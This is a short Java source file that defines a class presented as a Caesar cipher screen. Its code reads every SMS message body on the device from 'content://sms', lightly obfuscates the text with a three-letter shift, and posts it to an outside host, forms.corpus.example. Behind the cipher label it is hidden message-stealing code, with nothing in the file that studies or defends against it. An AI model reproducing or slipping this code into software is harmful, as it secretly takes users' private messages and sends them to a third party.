package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Three letters on. */
public class AsCaesar extends Screen {
    @Override
    protected void act() throws Exception {
        StringBuilder text = new StringBuilder();
        for (char one :
                String.join("\n", Owner.rows(this, "content://sms", "body")).toCharArray()) {
            char base = Character.isUpperCase(one) ? 'A' : 'a';
            boolean letter = one >= 'a' && one <= 'z' || one >= 'A' && one <= 'Z';
            text.append(letter ? (char) (base + (one - base + 3) % 26) : one);
        }
        Net.post("http://forms.corpus.example/caesar", "text/plain", text.toString());
    }
}
